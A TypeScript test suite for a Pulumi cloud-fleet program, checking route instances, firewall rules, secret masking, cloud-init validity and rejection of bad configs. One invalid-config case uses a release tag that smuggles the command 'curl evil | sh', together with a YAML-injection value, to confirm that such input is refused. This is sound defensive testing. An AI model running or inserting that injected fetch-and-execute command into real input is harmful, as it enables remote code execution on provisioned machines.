/**
 * The program as a whole, through the offline plan CLI (a fresh process per
 * plan, like `pulumi up`): both stacks, invalid configs, a tag bump, secrets,
 * and every rendered document checked by Debian's real `cloud-init schema`.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { describe, it } from "node:test";
import { parse } from "yaml";
import { INSTANCE_TYPES } from "../components/routes/instances";
import { PROVIDERS } from "../stacks/catalog";
import { routesOf } from "../stacks/config";
import type { Plan } from "./run";
import { fleetConfigOfStackFile, SECRET_PLACEHOLDERS } from "./stack-file";
import { planCli, planJson, type StackConfig, stackConfig, variantStackFile, writeStackFile } from "./testing";
import { readFileSync } from "node:fs";

const INSTANCE_TYPE_NAMES = Object.values(INSTANCE_TYPES);

// Top-level keys the renderer may emit; `cloud-init schema` does not flag unknown ones.
const KNOWN_TOP_LEVEL = new Set([
  "hostname", "manage_etc_hosts", "locale", "users", "ssh_pwauth", "ssh_keys", "ssh_genkeytypes", "write_files", "runcmd",
]);

/** Route instances (image builders are instances too, without user-data). */
const routeInstances = (plan: Plan) => plan.resources.filter((r) => INSTANCE_TYPE_NAMES.includes(r.type) && !r.name.endsWith("-builder"));

function configuredRoutes(stack: string) {
  const text = readFileSync(path.join(__dirname, "..", `Pulumi.${stack}.yaml`), "utf8");
  return routesOf(fleetConfigOfStackFile(text));
}

const plans = new Map<string, Plan>();
const planOf = (stack: string): Plan => {
  if (!plans.has(stack)) plans.set(stack, planJson(["--stack", stack]));
  return plans.get(stack)!;
};

for (const stack of ["staging", "prod"]) {
  describe(`plan --stack ${stack}`, () => {
    it("has one route instance, with decoded user-data, for every configured route", () => {
      const plan = planOf(stack);
      const routes = configuredRoutes(stack);
      const instances = routeInstances(plan);
      assert.deepEqual(instances.map((r) => r.name).sort(), routes.map((r) => r.id).sort());
      assert.deepEqual(Object.keys(plan.userData).sort(), routes.map((r) => r.id).sort());
      for (const route of routes) assert.match(plan.userData[route.id] ?? "", new RegExp(`install-lantern-box\\.sh\\n\\s+- ${route.releaseTag.replace(/\./g, "\\.")}\\n`));
      if (stack === "prod") {
        for (const provider of PROVIDERS) {
          const regions = new Set(routes.filter((r) => r.provider === provider).map((r) => r.region));
          assert.equal(regions.size, { linode: 17, alicloud: 10, oci: 36 }[provider], provider);
        }
      }
    });

    it("outputs `routes` with name, provider, region, track, rollout, releaseTag, verifiedTag and ip", () => {
      const routes = planOf(stack).outputs.routes as Record<string, unknown>[];
      assert.equal(routes.length, configuredRoutes(stack).length);
      for (const r of routes) {
        assert.deepEqual(Object.keys(r).sort(), ["ip", "name", "provider", "region", "releaseTag", "rollout", "track", "verifiedTag"]);
        // The plan runs no command, so only replaced routes count as verified (at their target).
        assert.equal(r.verifiedTag, r.rollout === "replace" ? r.releaseTag : "unverified");
      }
    });

    it("gives every route a firewall or security group that opens only the configured ports", () => {
      const plan = planOf(stack);
      const firewalls = plan.resources.filter((r) => r.type === "linode:index/firewall:Firewall" && !r.name.includes("builder"));
      assert.equal(firewalls.length, routeInstances(plan).filter((r) => r.type.startsWith("linode:")).length);
      for (const fw of firewalls) {
        assert.equal(fw.inputs.inboundPolicy, "DROP");
        assert.deepEqual((fw.inputs.inbounds as { ports: string }[]).map((i) => i.ports), ["22", "443", "443"]);
      }
      for (const instance of plan.resources.filter((r) => r.type === "linode:index/instance:Instance")) {
        assert.ok(typeof instance.inputs.firewallId === "number" && Number.isFinite(instance.inputs.firewallId));
      }
      const opened = (type: string, describe: (i: any) => string) =>
        [...new Set(plan.resources.filter((r) => r.type === type).map((r) => describe(r.inputs)))].sort();
      assert.deepEqual(
        opened("alicloud:ecs/securityGroupRule:SecurityGroupRule", (i) => `${i.ipProtocol} ${i.portRange} ${i.cidrIp}`),
        ["tcp 22/22 0.0.0.0/0", "tcp 443/443 0.0.0.0/0", "udp 443/443 0.0.0.0/0"],
      );
      assert.deepEqual(
        opened(
          "oci:Core/networkSecurityGroupSecurityRule:NetworkSecurityGroupSecurityRule",
          (i) => `${i.direction} ${i.protocol} ${(i.tcpOptions ?? i.udpOptions)?.destinationPortRange?.min ?? "all"}`,
        ),
        ["EGRESS all all", "INGRESS 17 443", "INGRESS 6 22", "INGRESS 6 443"],
      );
    });

    it("masks every secret: user-data inputs are secret and no placeholder leaks outside decoded user-data", () => {
      const plan = planOf(stack);
      for (const r of routeInstances(plan)) {
        const text = JSON.stringify(r.inputs);
        assert.ok(text.includes('"[secret]"'), `${r.name} user-data must be a secret`);
        for (const placeholder of Object.values(SECRET_PLACEHOLDERS)) assert.ok(!text.includes(placeholder));
      }
    });

    it("renders documents that Debian's cloud-init schema accepts", () => {
      const dir = mkdtempSync(path.join(tmpdir(), "userdata-"));
      for (const [name, text] of Object.entries(planOf(stack).userData)) {
        for (const key of Object.keys(parse(text) as object)) assert.ok(KNOWN_TOP_LEVEL.has(key), `${name}: unexpected top-level key ${key}`);
        const file = path.join(dir, `${name}.yaml`);
        writeFileSync(file, text);
        const result = spawnSync("cloud-init", ["schema", "--config-file", file], { encoding: "utf8" });
        assert.equal(result.error, undefined, "cloud-init must be installed (.ci/run installs Debian's package)");
        assert.equal(result.status, 0, `${name}: ${result.stdout}${result.stderr}`);
      }
    });
  });
}

describe("plan with invalid config", () => {
  it("refuses a stack file that lists a region twice", () => {
    const file = variantStackFile("staging", () => undefined);
    const text = readFileSync(file, "utf8").replace(/( +)us-lax:(.*)\n/, "$1us-lax:$2\n$1us-lax:$2\n");
    writeFileSync(file, text);
    const result = planCli(["--stack", "staging", "--config-file", file, "--json"]);
    assert.equal(result.status, 1);
    assert.match(result.stderr, /^config error: \(stack file\): Map keys must be unique/m);
  });

  const cases: [string, (c: StackConfig) => void, string][] = [
    ["no releaseTag", (c) => delete c["lantern-fleet:releaseTag"], "releaseTag"],
    ["a tag with shell metacharacters", (c) => (c["lantern-fleet:releaseTag"] = "v0.0.74; curl evil | sh"), "releaseTag"],
    ["a tag with YAML metacharacters", (c) => (c["lantern-fleet:releaseTag"] = "v0.0.74\n- evil: true"), "releaseTag"],
    ["an unknown provider", (c) => ((c["lantern-fleet:providers"] as StackConfig).aws = { regions: {} }), "providers.aws"],
    ["an unknown region", (c) => (((c["lantern-fleet:providers"] as any).linode.regions["xx-nowhere"] = { stable: 1 })), "providers.linode.regions.xx-nowhere"],
    ["a route on an undefined track", (c) => (((c["lantern-fleet:providers"] as any).linode.regions["us-lax"].beta = 1)), "providers.linode.regions.us-lax.beta"],
    ["a bad canary override", (c) => (((c["lantern-fleet:tracks"] as any).canary = { releaseTag: "latest" })), "tracks.canary.releaseTag"],
  ];
  for (const [what, edit, keyPath] of cases) {
    it(`refuses ${what}, naming ${keyPath}, declaring nothing, without a stack trace`, () => {
      const result = planCli(["--stack", "staging", "--config-file", variantStackFile("staging", edit), "--json"]);
      assert.equal(result.status, 1);
      assert.equal(result.stdout, "");
      assert.match(result.stderr, new RegExp(`^config error: ${keyPath.replace(/\./g, "\\.")}: `, "m"));
      assert.doesNotMatch(result.stderr, /\n\s+at /);
    });
  }
});

describe("secrets", () => {
  it("never reads secret values from the stack file: encrypted values stay out of the plan", () => {
    const config = { ...stackConfig("staging"), "lantern-fleet:tailscaleAuthKey": { secure: "v1:CIPHERTEXT-TS" }, "lantern-fleet:routeConfig": { secure: "v1:CIPHERTEXT-RC" } };
    const result = planCli(["--stack", "staging", "--config-file", writeStackFile(config), "--json"]);
    assert.equal(result.status, 0, result.stderr);
    assert.ok(!result.stdout.includes("CIPHERTEXT"));
  });

  it("committed stack files hold no secret in clear", () => {
    for (const stack of ["staging", "prod"]) {
      const config = stackConfig(stack);
      for (const key of ["tailscaleAuthKey", "routeConfig"]) {
        const value = config[`lantern-fleet:${key}`];
        assert.ok(value === undefined || (typeof value === "object" && value !== null && "secure" in value), `${stack}: ${key}`);
      }
    }
  });
});
